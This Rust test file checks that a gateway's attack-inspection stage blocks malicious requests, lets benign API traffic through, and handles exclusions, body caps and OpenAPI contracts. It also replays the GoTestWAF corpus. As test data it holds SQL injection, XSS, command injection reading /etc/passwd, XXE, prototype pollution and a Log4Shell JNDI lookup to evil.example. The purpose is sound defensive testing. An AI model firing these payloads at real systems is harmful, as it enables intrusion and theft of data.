#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "test helpers outside #[test] functions")]
//! Attack detection on the wire: a gateway with `policy.inspect` in front of a recording upstream.
//! Every blocked request must never reach the upstream; benign API traffic must pass untouched.

use bytes::Bytes;
use http_body_util::Full;
use portcullis_testkit::{Mode, TestGateway, Upstream, get, raw_request, send, status_of};

/// Routes: `/block` (block mode), `/monitor` (monitor mode), `/excl` (block, with exclusions),
/// `/small` (block, 64-byte cap, reject), `/pass` (block, 64-byte cap, pass).
fn yaml(up: &Upstream) -> String {
    format!(
        r#"
listeners: [{{ name: public, bind: "127.0.0.1:0" }}]
upstreams: {{ up: {{ targets: ["http://{addr}"] }} }}
routes:
  - {{ name: block, prefix: /block, upstream: up, policy: {{ inspect: {{ mode: block, headers: [x-search] }} }} }}
  - {{ name: monitor, prefix: /monitor, upstream: up, policy: {{ inspect: {{ mode: monitor }} }} }}
  - name: excl
    prefix: /excl
    upstream: up
    policy:
      inspect:
        exclusions:
          - {{ rule: xss }}
          - {{ target: "body:/snippets/*" }}
          - {{ rule: sqli, target: "query:sql" }}
  - {{ name: small, prefix: /small, upstream: up, policy: {{ inspect: {{ body_cap: 64 }} }} }}
  - {{ name: pass, prefix: /pass, upstream: up, policy: {{ inspect: {{ body_cap: 64, on_body_over_cap: pass }} }} }}
  - {{ name: plain, prefix: /plain, upstream: up }}
"#,
        addr = up.addr()
    )
}

fn post(path: &str, ct: &str, body: &str) -> http::Request<Full<Bytes>> {
    http::Request::post(path)
        .header("host", "localhost")
        .header("content-type", ct)
        .body(Full::new(Bytes::from(body.to_owned())))
        .unwrap()
}

fn with_header(path: &str, name: &str, value: &str) -> http::Request<Full<Bytes>> {
    http::Request::get(path).header("host", "localhost").header(name, value).body(Full::new(Bytes::new())).unwrap()
}

#[tokio::test]
async fn every_location_is_blocked_before_the_upstream() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(&yaml(&up)).await;
    let cases: Vec<(&str, http::Request<Full<Bytes>>)> = vec![
        ("query", get("/block/echo?q=1%27%20OR%201=1--")),
        ("path", get("/block/p/%3Csvg%20onload%3Dalert(1)%3E")),
        ("path", get("/block/users/1%27%20UNION%20SELECT%20password%20FROM%20users--")),
        ("header", with_header("/block/echo", "x-search", "<script>alert(document.cookie)</script>")),
        ("header", with_header("/block/echo", "user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
        ("header", with_header("/block/echo", "referer", "http://x/';exec xp_cmdshell 'dir'--")),
        ("cookie", with_header("/block/echo", "cookie", "session=abc; pref=1' OR '1'='1")),
        ("body", post("/block/echo", "application/json", r#"{"user":{"name":"x' OR 'a'='a"}}"#)),
        ("body", post("/block/echo", "application/json", r#"{"user":{"$where":"sleep(1000)"}}"#)),
        ("body", post("/block/echo", "application/json", r#"{"__proto__":{"admin":true}}"#)),
        ("form", post("/block/echo", "application/x-www-form-urlencoded", "name=a&cmd=%3Bcat%20%2Fetc%2Fpasswd")),
        (
            "form",
            post("/block/echo", "application/x-www-form-urlencoded", "bio=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        ),
        (
            "body",
            post(
                "/block/echo",
                "application/xml",
                r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
            ),
        ),
        ("body", post("/block/echo", "text/plain", "${jndi:ldap://evil.example/a}")),
    ];
    let mut failures = Vec::new();
    for (kind, req) in cases {
        let label = format!("{} {}", req.method(), req.uri());
        let resp = gw.request(req).await;
        if resp.status != 403 {
            failures.push(format!("{label}: {} {:?}", resp.status, String::from_utf8_lossy(&resp.body)));
            continue;
        }
        let doc = resp.json();
        assert_eq!(doc["type"], "urn:portcullis:problem:attack-detected");
        let detail = doc["detail"].as_str().unwrap();
        assert!(detail.contains(&format!("({kind})")), "{label}: detail {detail:?} lacks ({kind})");
    }
    assert!(failures.is_empty(), "not blocked:\n{}", failures.join("\n"));
    assert_eq!(up.hits(), 0, "the upstream was contacted for a blocked request");
    let log = gw.access_log();
    assert!(!log.is_empty());
    for line in &log {
        assert_eq!(line["stage"], "inspect", "{line}");
        assert_eq!(line["reason"], "attack-detected", "{line}");
        assert_eq!(line["status"], 403);
    }
}

#[tokio::test]
async fn the_problem_never_echoes_the_payload() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(&yaml(&up)).await;
    let resp = gw
        .request(post("/block/echo", "application/json", r#"{"<script>x</script>":"<script>alert('zz9')</script>"}"#))
        .await;
    assert_eq!(resp.status, 403);
    let body = String::from_utf8_lossy(&resp.body);
    assert!(!body.contains("script") && !body.contains("zz9"), "{body}");
    let raw = gw.access_log_raw().join("\n");
    assert!(!raw.contains("zz9"), "{raw}");
}

#[tokio::test]
async fn benign_api_traffic_passes_untouched() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(&yaml(&up)).await;
    let bodies = [
        r#"{"name":"Seán O'Brien","company":"O'Reilly & Sons","city":"L'Aquila"}"#,
        r#"{"ticket":"When I select all rows from the orders table and delete one, the total is wrong. I tried: select * from orders where id = 5","priority":"high"}"#,
        r##"{"comment":"# Release notes\n\n- **Fixed** the `--dry-run` flag\n- See [docs](https://example.com/docs?page=2&lang=en)\n\n> Don't forget to update!"}"##,
        r#"{"payload":"{\"a\":1,\"b\":[1,2,3]}","url":"https://api.example.com/v2/items?sort=-created&limit=20"}"#,
        r#"{"email":"jane.o'neil@example.com","note":"Price is under 10 EUR; that's fine, isn't it?","tags":["a-b","c_d"]}"#,
    ];
    for b in bodies {
        let resp = gw.request(post("/block/echo", "application/json", b)).await;
        assert_eq!(resp.status, 200, "{b}: {:?}", String::from_utf8_lossy(&resp.body));
        let seen = up.requests().pop().unwrap();
        assert_eq!(seen.body.as_ref(), b.as_bytes(), "the upstream must receive the body unchanged");
    }
    let form = "name=D%27Arcy&msg=It%27s+a+1%2B1%3D2+kind+of+day";
    assert_eq!(gw.request(post("/block/echo", "application/x-www-form-urlencoded", form)).await.status, 200);
    for q in ["/block/search?q=O%27Brien", "/block/search?q=rock+%26+roll&page=2", "/block/items/2024-05-01/report"] {
        assert_eq!(gw.get(q).await.status, 200, "{q}");
    }
    assert_eq!(up.hits(), bodies.len() + 4);
}

#[tokio::test]
async fn monitor_mode_passes_and_counts() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(&yaml(&up)).await;
    let resp = gw.get("/monitor/echo?q=1%27%20OR%201=1--").await;
    assert_eq!(resp.status, 200);
    assert_eq!(up.hits(), 1);
    assert_eq!(gw.access_log()[0]["decision"], "allow");
    let metrics = send(gw.admin_addr(), &Mode::H1, get("/metrics")).await;
    let text = String::from_utf8_lossy(&metrics.body);
    let line = text
        .lines()
        .find(|l| l.starts_with("portcullis_inspect_findings_total") && l.contains("mode=\"monitor\""))
        .unwrap_or_else(|| panic!("no monitor finding counted:\n{text}"));
    assert!(line.contains("class=\"sqli\""), "{line}");
}

#[tokio::test]
async fn exclusions_by_rule_and_by_pointer() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(&yaml(&up)).await;
    // The xss class is excluded everywhere on this route.
    assert_eq!(gw.get("/excl/echo?bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await.status, 200);
    // Any rule is excluded under /snippets/*.
    let b = r#"{"snippets":["x' OR 'a'='a","; cat /etc/passwd"],"title":"ok"}"#;
    assert_eq!(gw.request(post("/excl/echo", "application/json", b)).await.status, 200);
    // SQLi is excluded in the `sql` query parameter only.
    assert_eq!(gw.get("/excl/echo?sql=1%27%20OR%201=1--").await.status, 200);
    let hits = up.hits();
    assert_eq!(hits, 3);
    // Elsewhere the same payloads are still blocked.
    let b = r#"{"snippets":[],"title":"x' OR 'a'='a"}"#;
    assert_eq!(gw.request(post("/excl/echo", "application/json", b)).await.status, 403);
    assert_eq!(gw.get("/excl/echo?q=1%27%20OR%201=1--").await.status, 403);
    assert_eq!(up.hits(), hits);
}

#[tokio::test]
async fn a_typo_in_an_exclusion_fails_config_loading_with_its_key_path() {
    let up = Upstream::start().await;
    let y = yaml(&up).replace("{ rule: xss }", "{ rule: xxs }");
    let e = portcullis_config::from_yaml(&y, std::path::Path::new(".")).unwrap_err().0;
    assert_eq!(e.len(), 1, "{e:?}");
    assert_eq!(e[0].path, "routes[2].policy.inspect.exclusions[0].rule");
    let y = yaml(&up).replace("body:/snippets/*", "body:snippets");
    let e = portcullis_config::from_yaml(&y, std::path::Path::new(".")).unwrap_err().0;
    assert_eq!(e[0].path, "routes[2].policy.inspect.exclusions[1].target");
}

#[tokio::test]
async fn a_body_over_the_cap_is_rejected_by_default() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(&yaml(&up)).await;
    let big = format!(r#"{{"note":"{}"}}"#, "a".repeat(100));
    let resp = gw.request(post("/small/echo", "application/json", &big)).await;
    assert_eq!(resp.status, 413);
    assert_eq!(gw.access_log()[0]["stage"], "inspect");
    // Chunked (no Content-Length): refused while buffering.
    let chunked = format!(
        "POST /small/echo HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{big}\r\n0\r\n\r\n",
        big.len()
    );
    assert_eq!(status_of(&raw_request(gw.addr(), chunked.as_bytes()).await), Some(413));
    assert_eq!(up.hits(), 0);
    // Under the cap it is scanned and passed.
    assert_eq!(gw.request(post("/small/echo", "application/json", r#"{"note":"hi"}"#)).await.status, 200);
    assert_eq!(up.hits(), 1);
}

#[tokio::test]
async fn a_body_over_the_cap_passes_when_configured_and_its_head_is_still_scanned() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(&yaml(&up)).await;
    let big = format!(r#"{{"note":"{}","tail":"x' OR 'a'='a"}}"#, "a".repeat(100));
    let resp = gw.request(post("/pass/echo", "application/json", &big)).await;
    assert_eq!(resp.status, 200, "{:?}", String::from_utf8_lossy(&resp.body));
    assert_eq!(up.requests()[0].body.as_ref(), big.as_bytes(), "the whole body reaches the upstream");
    let head = format!(r#"{{"q":"x' OR 'a'='a","note":"{}"}}"#, "a".repeat(100));
    assert_eq!(gw.request(post("/pass/echo", "text/plain", &head)).await.status, 403);
    assert_eq!(up.hits(), 1);
    let metrics = send(gw.admin_addr(), &Mode::H1, get("/metrics")).await;
    assert!(String::from_utf8_lossy(&metrics.body).contains("portcullis_inspect_body_over_cap_total"));
}

#[tokio::test]
async fn routes_without_inspection_are_not_scanned() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(&yaml(&up)).await;
    assert_eq!(gw.get("/plain/echo?q=1%27%20OR%201=1--").await.status, 200);
    assert_eq!(up.hits(), 1);
}

/// One GoTestWAF record's request.
#[derive(serde::Deserialize)]
struct Record {
    set: String,
    expected: String,
    placeholder: String,
    request: Req,
}

#[derive(serde::Deserialize, Default)]
#[serde(default)]
struct Req {
    /// Absent for gRPC records, which are not plain HTTP and are skipped.
    method: String,
    path: String,
    query: Option<String>,
    headers: std::collections::BTreeMap<String, String>,
    body: Option<String>,
}

fn corpus() -> Option<String> {
    let dir = std::env::var("PORTCULLIS_CORPORA")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|_| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora"));
    std::fs::read_to_string(dir.join("gotestwaf/payloads.jsonl")).ok()
}

/// The GoTestWAF corpus replayed through the gateway in block mode, as raw HTTP/1.1. An attack
/// counts as blocked when the upstream never saw it (the gateway's hygiene refusing a malformed
/// request counts too); a benign request counts as passed when the upstream answered 2xx.
/// The route scans every non-protocol header (`headers: ["*"]`), as the library efficacy test
/// does. `GOTESTWAF_E2E_ALL=1` replays every record; by default every third one.
#[tokio::test]
async fn gotestwaf_replayed_through_the_gateway() {
    let Some(text) = corpus() else {
        eprintln!("gotestwaf corpus not found; set PORTCULLIS_CORPORA");
        return;
    };
    let step = if std::env::var("GOTESTWAF_E2E_ALL").is_ok() { 1 } else { 3 };
    let up = Upstream::start().await;
    let gw = TestGateway::start(&format!(
        "listeners: [{{ name: public, bind: \"127.0.0.1:0\" }}]\nupstreams: {{ up: {{ targets: [\"http://{}\"] }} }}\nroutes: [{{ name: all, prefix: /, upstream: up, policy: {{ max_request_body_bytes: 1048576, inspect: {{ mode: block, headers: [\"*\"] }} }} }}]\n",
        up.addr()
    ))
    .await;
    let (mut atk, mut atk_blocked, mut ben, mut ben_passed) = (0u32, 0u32, 0u32, 0u32);
    let mut by_set: std::collections::BTreeMap<String, (u32, u32)> = Default::default();
    let mut misses = Vec::new();
    let mut blocked_status: std::collections::BTreeMap<Option<u16>, u32> = Default::default();
    for (i, line) in text.lines().enumerate().filter(|(i, _)| i % step == 0).take(2000) {
        let r: Record = serde_json::from_str(line).unwrap();
        if r.request.method.is_empty() {
            continue;
        }
        let mut path = if r.request.path.is_empty() { "/".to_owned() } else { r.request.path.clone() };
        if !path.starts_with('/') {
            path.insert(0, '/');
        }
        if let Some(q) = &r.request.query {
            path.push('?');
            path.push_str(q);
        }
        let body = r.request.body.clone().unwrap_or_default();
        let mut raw = format!("{} {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n", r.request.method);
        for (k, v) in &r.request.headers {
            if !k.eq_ignore_ascii_case("host") && !k.eq_ignore_ascii_case("content-length") {
                raw.push_str(&format!("{k}: {v}\r\n"));
            }
        }
        if !body.is_empty() || r.request.method != "GET" {
            raw.push_str(&format!("Content-Length: {}\r\n", body.len()));
        }
        raw.push_str("\r\n");
        raw.push_str(&body);
        let before = up.hits();
        let status = status_of(&raw_request(gw.addr(), raw.as_bytes()).await);
        let reached = up.hits() > before;
        let e = by_set.entry(format!("{}/{}", r.set, r.expected)).or_default();
        e.0 += 1;
        if r.expected == "block" {
            atk += 1;
            if !reached {
                atk_blocked += 1;
                *blocked_status.entry(status).or_default() += 1;
                e.1 += 1;
            } else {
                misses.push(format!("#{i} {} {}", r.placeholder, &line[..line.len().min(160)]));
            }
        } else {
            ben += 1;
            if reached && status.is_some_and(|s| (200..300).contains(&s)) {
                ben_passed += 1;
                e.1 += 1;
            } else {
                misses.push(format!("#{i} FP {status:?} {}", &line[..line.len().min(160)]));
            }
        }
    }
    let rate = |a: u32, b: u32| if b == 0 { 100.0 } else { 100.0 * f64::from(a) / f64::from(b) };
    eprintln!("gotestwaf through the gateway (every {step}th record):");
    eprintln!("  attacks blocked: {atk_blocked}/{atk} = {:.1} %", rate(atk_blocked, atk));
    eprintln!("  benign passed:   {ben_passed}/{ben} = {:.1} %", rate(ben_passed, ben));
    eprintln!("  blocked attacks by status (403 = inspection; 400/413/414/431 = HTTP hygiene): {blocked_status:?}");
    for (k, (n, ok)) in &by_set {
        eprintln!("  {k}: {ok}/{n}");
    }
    for m in misses.iter().take(20) {
        eprintln!("  miss: {m}");
    }
    assert!(atk > 50 && ben > 20, "sample too small");
    assert!(rate(atk_blocked, atk) >= 95.0, "attacks blocked below 95 %");
    assert!(rate(ben_passed, ben) >= 99.0, "benign passed below 99 %");
}

/// A legacy API whose link target is an enum that includes `javascript:void(0)`: a value the XSS
/// detector flags, yet one the contract proves is exactly a declared constant.
const LINKS_SPEC: &str = r##"
openapi: 3.1.0
info: { title: links, version: "1" }
paths:
  /links/{id}:
    post:
      operationId: saveLink
      x-portcullis-public: true
      parameters:
        - { name: id, in: path, required: true, schema: { type: integer } }
        - { name: target, in: query, schema: { type: string, enum: [_self, "javascript:void(0)"] } }
      requestBody:
        required: true
        content:
          application/json:
            schema:
              type: object
              properties:
                href: { type: string, enum: ["#", "javascript:void(0)"] }
                ref: { type: string, format: uuid }
                count: { type: integer }
                note: { type: string }
      responses:
        "200":
          description: echo
          content: { application/json: { schema: { type: object } } }
"##;

/// `/e`: contract enforced, then inspection; `/m`: contract in monitor mode, then inspection.
async fn contract_and_inspect(up: &Upstream) -> TestGateway {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("links.yaml"), LINKS_SPEC).unwrap();
    let yaml = format!(
        r#"
listeners: [{{ name: public, bind: "127.0.0.1:0" }}]
upstreams: {{ up: {{ targets: ["http://{addr}"] }} }}
routes:
  - name: enforced
    prefix: /e
    upstream: up
    policy: {{ contract: {{ specs: [links.yaml], base_path: /e }}, inspect: {{ mode: block }} }}
  - name: monitored
    prefix: /m
    upstream: up
    policy: {{ contract: {{ specs: [links.yaml], base_path: /m, mode: monitor }}, inspect: {{ mode: block }} }}
"#,
        addr = up.addr()
    );
    TestGateway::start_in(dir, &yaml).await
}

const LINK_BODY: &str =
    r#"{"href": "javascript:void(0)", "ref": "0b7f5a52-3c1e-4d2a-9b8e-6f1d2c3b4a59", "count": 3, "note": "homepage"}"#;

#[tokio::test]
async fn fields_the_contract_enforced_are_not_scanned_but_free_text_is() {
    let up = Upstream::start().await;
    let gw = contract_and_inspect(&up).await;
    // Enum (query and body), uuid and integer fields: validated by the enforced contract, so the
    // inspection stage skips them; the request passes.
    let r = gw.request(post("/e/links/7?target=javascript:void(0)", "application/json", LINK_BODY)).await;
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(up.hits(), 1);
    // The same payload in the free-text `note` of the same operation is still scanned and blocked.
    let body = LINK_BODY.replace(r#""note": "homepage""#, r#""note": "javascript:void(0)""#);
    let r = gw.request(post("/e/links/7?target=_self", "application/json", &body)).await;
    assert_eq!(r.status, 403, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(gw.access_log().last().unwrap()["stage"], "inspect");
    // A value outside the enum never reaches inspection: the contract refuses it.
    let body = LINK_BODY.replace(r#""href": "javascript:void(0)""#, r#""href": "javascript:alert(1)""#);
    let r = gw.request(post("/e/links/7", "application/json", &body)).await;
    assert_eq!(r.status, 400, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(up.hits(), 1, "blocked requests must not reach the upstream");
}

#[tokio::test]
async fn in_contract_monitor_mode_constrained_fields_are_still_scanned() {
    let up = Upstream::start().await;
    let gw = contract_and_inspect(&up).await;
    // The body enum field.
    let r = gw.request(post("/m/links/7", "application/json", LINK_BODY)).await;
    assert_eq!(r.status, 403, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(gw.access_log().last().unwrap()["stage"], "inspect");
    // The query enum field.
    let body = LINK_BODY.replace(r#""href": "javascript:void(0)""#, r##""href": "#""##);
    let r = gw.request(post("/m/links/7?target=javascript:void(0)", "application/json", &body)).await;
    assert_eq!(r.status, 403, "{}", String::from_utf8_lossy(&r.body));
    // Without either, the request passes: the findings above came from those fields.
    let r = gw.request(post("/m/links/7?target=_self", "application/json", &body)).await;
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(up.hits(), 1);
}
